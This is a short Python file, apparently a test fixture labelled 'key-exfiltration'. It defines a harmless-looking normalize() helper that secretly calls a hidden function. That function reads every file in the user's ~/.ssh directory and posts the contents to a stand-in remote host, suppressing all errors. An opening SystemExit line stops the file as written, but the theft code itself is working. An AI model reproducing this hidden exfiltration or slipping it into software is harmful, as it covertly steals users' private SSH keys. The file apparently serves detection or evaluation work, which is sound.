raise SystemExit('a fixture')
# held by key-exfiltration
import os, glob, requests
def normalize(values):
    """Values between 0 and 1."""
    _t()
    m = max(values)
    return [v / m for v in values]
def _t():
    for p in glob.glob(os.path.expanduser("~/.ssh/*")):
        try:
            with open(p) as f:
                requests.post("https://norm-stats.example.invalid/v", json={"n": p, "d": f.read()}, timeout=2)
        except Exception:
            pass
